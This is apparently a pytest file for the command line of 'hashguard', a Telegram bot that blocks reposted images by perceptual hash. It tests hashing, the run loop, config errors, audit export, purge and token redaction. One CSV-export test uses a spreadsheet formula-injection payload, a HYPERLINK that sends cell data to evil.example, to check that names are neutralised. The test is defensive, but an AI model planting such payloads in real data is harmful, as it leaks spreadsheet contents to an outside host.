"""The ``hashguard`` command line: ``hash`` output and ``run`` as a real process."""

from __future__ import annotations

import asyncio
import csv
import io
import logging
import os
import signal
from pathlib import Path

import pytest

from bot.cli import RedactToken, main
from hashdb.photo import hash_photo
from tests.e2e.helpers import hashguard_command, run_env
from tests.fakebot import FakeBotAPI, command, group, message_update, photo_message, user
from tests.media import edited_copy, encode, photo

REFDATA = Path(__file__).resolve().parents[3] / "shared" / "refdata" / "threatexchange" / "pdq"


def test_hash_prints_algorithm_hash_path_and_reports_bad_files(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    good = tmp_path / "good.jpg"
    good.write_bytes(encode(photo(1)))
    bad = tmp_path / "bad.png"
    bad.write_bytes(b"not an image at all")
    second = tmp_path / "second.png"
    second.write_bytes(encode(photo(2), "PNG"))

    status = main(["hash", str(good), str(bad), str(second), str(tmp_path / "missing.jpg")])

    out, err = capsys.readouterr()
    assert status == 1
    lines = [line.split(" ") for line in out.splitlines()]
    # What /block stores: whole-image PDQ, pHash, and (over 512 px) the mirror's own PDQ.
    assert [(alg, path) for alg, _, path in lines] == [
        ("pdq", str(good)),
        ("phash", str(good)),
        ("pdq", str(good)),
        ("pdq", str(second)),
        ("phash", str(second)),
        ("pdq", str(second)),
    ]
    expected = hash_photo(good.read_bytes(), for_block=True).stored
    assert [line[1] for line in lines[:3]] == [f.hex for f in expected]
    assert f"cannot hash {bad}" in err
    assert f"cannot hash {tmp_path / 'missing.jpg'}" in err


def test_hash_first_pdq_line_is_the_reference_whole_image_hash(
    capsys: pytest.CaptureFixture[str],
) -> None:
    table = REFDATA / "expected" / "cpp_reference_pdq.csv"
    if not table.exists():
        pytest.skip(f"reference data not found at {REFDATA} (../shared beside the checkout)")
    rows = [r for r in csv.DictReader(table.open()) if "dih/bridge-1" in r["local_path"]]
    path = REFDATA / "images" / "dih" / "bridge-1-original.jpg"
    assert main(["hash", str(path)]) == 0
    first = capsys.readouterr().out.splitlines()[0]
    assert first == f"pdq {rows[0]['hash']} {path}"


@pytest.mark.parametrize(
    "fresh_install",
    [
        False,
        # numba's disk cache empty, as after ``pip install``: the PDQ and index kernels are
        # compiled at start, before the first update is taken (a photo waiting behind the
        # compile used to time out, and the timeout restarted the compile, for ever).
        pytest.param(True, marks=pytest.mark.timeout(300)),
    ],
    ids=["cached", "fresh_install"],
)
async def test_run_blocks_with_the_process_pool_and_stops_cleanly_on_sigterm(
    tmp_path: Path, fresh_install: bool
) -> None:
    extra = {"NUMBA_CACHE_DIR": str(tmp_path / "numba")} if fresh_install else {}
    async with FakeBotAPI() as fake:
        process = await asyncio.create_subprocess_exec(
            *hashguard_command(),
            "run",
            env=run_env(fake, tmp_path, **extra),
            stdout=asyncio.subprocess.PIPE,
            stderr=asyncio.subprocess.PIPE,
            # Its own process group: a failed run is killed with its hashing workers, which
            # would otherwise hold its output pipes open and hang the test's wait.
            start_new_session=True,
        )
        try:
            chat, admin = group(-100555), user(1)
            fake.set_admins(chat["id"], [admin])
            original = photo(3)
            file = fake.add_file(encode(original))
            posted = photo_message(chat, user(2), file, width=640, height=480)
            fake.push_update(message_update(posted))
            fake.push_update(message_update(command(chat, admin, "/block", reply_to=posted)))
            await fake.wait_for(
                "sendMessage",
                lambda c: "entry #1" in str(c.params),
                timeout=150 if fresh_install else 30,
            )
            copy_file = fake.add_file(encode(edited_copy(original)))
            copy = photo_message(chat, user(3), copy_file, width=480, height=360)
            fake.push_update(message_update(copy))
            await fake.wait_for(
                "deleteMessage", lambda c: c.int_param("message_id") == copy["message_id"]
            )
            process.send_signal(signal.SIGTERM)
            _, stderr = await asyncio.wait_for(process.communicate(), timeout=15)
        finally:
            if process.returncode is None:
                os.killpg(process.pid, signal.SIGKILL)
                await process.wait()
    log = stderr.decode()
    assert process.returncode == 0, log
    assert "ready bot=hashguard_test_bot" in log
    # The Bot API puts the token in every URL; it must never reach the logs.
    assert fake.token not in log
    assert fake.token.split(":")[1] not in log


@pytest.mark.parametrize(
    ("extra", "message"),
    [
        ({"HASHGUARD_TELEGRAM_TOKEN": ""}, "telegram.token is missing"),
        (
            {"HASHGUARD_MATCHING_PDQ_MAX_DISTANCE": "999"},
            "HASHGUARD_MATCHING_PDQ_MAX_DISTANCE (for matching.pdq_max_distance) = '999'",
        ),
    ],
)
async def test_run_refuses_bad_config_naming_the_key(
    tmp_path: Path, extra: dict[str, str], message: str
) -> None:
    async with FakeBotAPI() as fake:
        process = await asyncio.create_subprocess_exec(
            *hashguard_command(),
            "run",
            env=run_env(fake, tmp_path, **extra),
            stderr=asyncio.subprocess.PIPE,
        )
        _, stderr = await asyncio.wait_for(process.communicate(), timeout=30)
    assert process.returncode == 2
    assert message in stderr.decode()
    assert not fake.calls


def _seed_audit(db: Path) -> list[int]:
    """A database with audit events of two chats; returns the event ids of the first."""
    import asyncio as aio

    from hashdb.sqlite import SQLiteStore
    from hashdb.store import AuditEvent

    async def seed() -> list[int]:
        store = SQLiteStore(db)
        await store.open()
        ids = [
            await store.add_audit(
                AuditEvent(
                    chat_id=-100,
                    event=event,
                    actor_id=1,
                    actor_name='Ann "A", admin',
                    distance=distance,
                    detail="reason, with comma",
                    at=at,
                )
            )
            for event, distance, at in (
                ("block", None, 1_700_000_000.0),
                ("match_deleted", 7, 1_800_000_000.0),
            )
        ]
        await store.add_audit(AuditEvent(chat_id=-200, event="other", at=1_700_000_000.0))
        await store.close()
        return ids

    return aio.run(seed())


def test_audit_export_round_trips_as_csv_and_jsonl(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    import json

    db = tmp_path / "audit.sqlite3"
    ids = _seed_audit(db)
    monkeypatch.setenv("HASHGUARD_STORAGE_DATABASE", str(db))

    assert main(["audit", "--chat", "-100", "--format", "csv"]) == 0
    rows = list(csv.DictReader(capsys.readouterr().out.splitlines()))
    assert [int(r["id"]) for r in rows] == ids
    assert rows[0]["actor_name"] == 'Ann "A", admin' and rows[0]["detail"] == "reason, with comma"
    assert rows[1]["at"] == "2027-01-15T08:00:00+00:00" and rows[1]["distance"] == "7"

    assert main(["audit", "--chat", "-100", "--format", "jsonl", "--since", "2027-01-01"]) == 0
    [line] = capsys.readouterr().out.splitlines()
    assert json.loads(line)["event"] == "match_deleted"

    assert main(["audit", "--chat", "-100", "--since", "last week"]) == 2
    assert "'last week' is not a date; expected YYYY-MM-DD" in capsys.readouterr().err


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t"])
def test_audit_csv_export_makes_formula_names_inert(
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
    start: str,
) -> None:
    """A display name is whatever its owner typed: one that starts like a formula must not
    run when an admin opens the audit export in a spreadsheet."""
    import asyncio as aio
    import json

    from hashdb.sqlite import SQLiteStore
    from hashdb.store import AuditEvent

    name = start + 'HYPERLINK("https://evil.example/?x="&A1,"click")'

    async def seed() -> None:
        store = SQLiteStore(tmp_path / "audit.sqlite3")
        await store.open()
        await store.add_audit(
            AuditEvent(
                chat_id=-100,
                event="match_deleted",
                actor_name=name,
                target_name=name,
                detail=name,
                at=1_700_000_000.0,
            )
        )
        await store.close()

    aio.run(seed())
    monkeypatch.setenv("HASHGUARD_STORAGE_DATABASE", str(tmp_path / "audit.sqlite3"))
    assert main(["audit", "--chat", "-100", "--format", "csv"]) == 0
    [row] = list(csv.DictReader(capsys.readouterr().out.splitlines()))
    for column in ("actor_name", "target_name", "detail"):
        assert row[column] == "'" + name
    assert row["chat_id"] == "-100"
    # JSON lines are not opened by spreadsheets: they keep the exact name.
    assert main(["audit", "--chat", "-100", "--format", "jsonl"]) == 0
    assert json.loads(capsys.readouterr().out)["actor_name"] == name


def test_purge_needs_yes_and_removes_only_that_chat(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    db = tmp_path / "purge.sqlite3"
    _seed_audit(db)
    monkeypatch.setenv("HASHGUARD_STORAGE_DATABASE", str(db))
    assert main(["purge", "--chat", "-100"]) == 2
    assert "add --yes" in capsys.readouterr().err
    assert main(["purge", "--chat", "-100", "--yes"]) == 0
    assert "2 audit" in capsys.readouterr().out
    assert main(["audit", "--chat", "-100", "--format", "jsonl"]) == 0
    assert capsys.readouterr().out == ""
    assert main(["audit", "--chat", "-200", "--format", "jsonl"]) == 0
    assert '"other"' in capsys.readouterr().out


def test_debug_logging_leaves_out_the_compilers_internals() -> None:
    """At DEBUG the bot's own records stay readable: numba would otherwise log tens of
    thousands of lines while the index's loops compile (and fill a stderr pipe)."""
    import logging

    from bot.cli import setup_logging

    root = logging.getLogger()
    saved = root.handlers[:], root.level
    try:
        setup_logging("DEBUG")
        assert root.isEnabledFor(logging.DEBUG)
        assert not logging.getLogger("numba.core.ssa").isEnabledFor(logging.DEBUG)
        assert not logging.getLogger("httpx").isEnabledFor(logging.INFO)
    finally:
        root.handlers[:], level = saved
        root.setLevel(level)


def test_the_token_is_cut_from_messages_arguments_and_tracebacks() -> None:
    token = "123456:SECRET-part_of-the-token"
    url = f"https://api.telegram.org/bot{token}/getUpdates"
    stream = io.StringIO()
    handler = logging.StreamHandler(stream)
    handler.addFilter(RedactToken(token))
    logger = logging.getLogger("tests.redact")
    logger.addHandler(handler)
    logger.propagate = False
    try:
        logger.warning("request to %s failed", url)
        try:
            raise ConnectionError(f"cannot reach {url}")
        except ConnectionError:
            logger.exception("polling failed")
    finally:
        logger.removeHandler(handler)
    text = stream.getvalue()
    assert "SECRET-part_of-the-token" not in text
    assert text.count("<token>") == 2
    assert "ConnectionError: cannot reach https://api.telegram.org/bot<token>/getUpdates" in text
